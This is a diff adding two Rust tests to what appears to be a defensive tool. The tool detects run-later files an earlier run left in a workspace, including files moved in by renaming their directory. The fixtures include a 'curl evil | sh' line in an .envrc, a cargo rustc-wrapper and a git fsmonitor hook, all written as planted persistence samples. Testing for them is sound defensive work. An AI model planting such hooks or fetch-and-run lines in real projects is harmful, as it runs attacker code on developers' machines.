@@ -700,3 +700,110 @@ fn new_gitlinks_and_git_links_stay_only_where_they_run_nothing() {
         }
     }
 }
+
+/// Files an earlier run left under names nothing looks for (or where the
+/// walk does not look: the quarantine), with that run's `ctime`, then
+/// brought to run-later places by renaming a directory above them: a
+/// rename stamps the directory moved, not what it holds. Each is found
+/// (a repository by its own directory); before, each stayed.
+#[test]
+fn files_moved_in_with_their_directory_are_set_aside() {
+    for walk in [Walk::Whole, Walk::Changed] {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        let mut inputs = workspace(&root);
+        let files = [
+            ("stash/tasks.json", "{\"tasks\": []}"),
+            ("cargo/config.toml", "[build]\nrustc-wrapper = \"/x\"\n"),
+            (".magus/quarantine/s/app/.envrc", "curl evil | sh\n"),
+            (".magus/quarantine/s/app/.claude/settings.json", "{}"),
+            ("pkg/__init__.py", "import os\n"),
+            ("cache/m.cpython-312.pyc", "planted"),
+            ("bare/HEAD", "ref: refs/heads/main\n"),
+            ("bare/config", "[core]\n\tfsmonitor = x\n"),
+        ];
+        for (rel, text) in files {
+            std::fs::create_dir_all(root.join(rel).parent().unwrap()).unwrap();
+            std::fs::write(root.join(rel), text).unwrap();
+        }
+        for d in ["bare/objects", "bare/refs"] {
+            std::fs::create_dir_all(root.join(d)).unwrap();
+        }
+        if walk == Walk::Changed {
+            inputs.directories = Some(directories(&root));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(25));
+        let watch = Watch::before(inputs);
+        for (from, to) in [
+            ("stash", ".vscode"),
+            ("cargo", ".cargo"),
+            (".magus/quarantine/s/app", "app"),
+            ("pkg", "venv"),
+            ("cache", "src/__pycache__"),
+            ("bare", "src/sub"),
+        ] {
+            std::fs::rename(root.join(from), root.join(to)).unwrap();
+        }
+        let found = watch.after(match walk {
+            Walk::Whole => Executables::List,
+            Walk::Changed => Executables::Skip,
+        });
+        let mut got = lefts(&found);
+        got.sort_by(|a, b| a.0.cmp(&b.0));
+        let mut want: Vec<(String, Left)> = [
+            (".envrc", Left::RunLater),
+            ("HEAD", Left::BareRepository),
+            ("__init__.py", Left::RunLater),
+            ("config", Left::BareRepository),
+            ("config.toml", Left::RunLater),
+            ("m.cpython-312.pyc", Left::Bytecode),
+            ("settings.json", Left::RunLater),
+            ("tasks.json", Left::RunLater),
+        ]
+        .map(|(n, l)| (n.to_string(), l))
+        .into();
+        want.sort_by(|a, b| a.0.cmp(&b.0));
+        assert_eq!(got, want, "{walk:?}");
+    }
+}
+
+/// What was there at the start, in directories the run changed, stays:
+/// the editor's settings beside a file the run added, a project's own
+/// `platform/__init__.py` beside the bytecode the run wrote.
+#[test]
+fn old_files_in_directories_the_run_changed_stay() {
+    for walk in [Walk::Whole, Walk::Changed] {
+        let dir = tempfile::tempdir().unwrap();
+        let root = dir.path().canonicalize().unwrap();
+        let mut inputs = workspace(&root);
+        for (rel, text) in [
+            (".vscode/settings.json", "{}"),
+            ("platform/__init__.py", ""),
+            ("src/.envrc", "export A=1\n"),
+        ] {
+            std::fs::create_dir_all(root.join(rel).parent().unwrap()).unwrap();
+            std::fs::write(root.join(rel), text).unwrap();
+        }
+        inputs.existing = vec![root.join(".vscode"), root.join("src/.envrc")];
+        if walk == Walk::Changed {
+            inputs.directories = Some(directories(&root));
+        }
+        std::thread::sleep(std::time::Duration::from_millis(25));
+        let watch = Watch::before(inputs);
+        std::fs::write(root.join(".vscode/tasks.json"), "{}").unwrap();
+        std::fs::create_dir(root.join("platform/__pycache__")).unwrap();
+        std::fs::write(root.join("platform/__pycache__/x.cpython-312.pyc"), "").unwrap();
+        std::fs::write(root.join("src/main.rs"), "").unwrap();
+        let found = watch.after(match walk {
+            Walk::Whole => Executables::List,
+            Walk::Changed => Executables::Skip,
+        });
+        let mut got = lefts(&found);
+        got.sort_by(|a, b| a.0.cmp(&b.0));
+        let want = [
+            ("tasks.json".to_string(), Left::RunLater),
+            ("x.cpython-312.pyc".to_string(), Left::Bytecode),
+        ];
+        assert_eq!(got, want, "{walk:?}");
+    }
+}
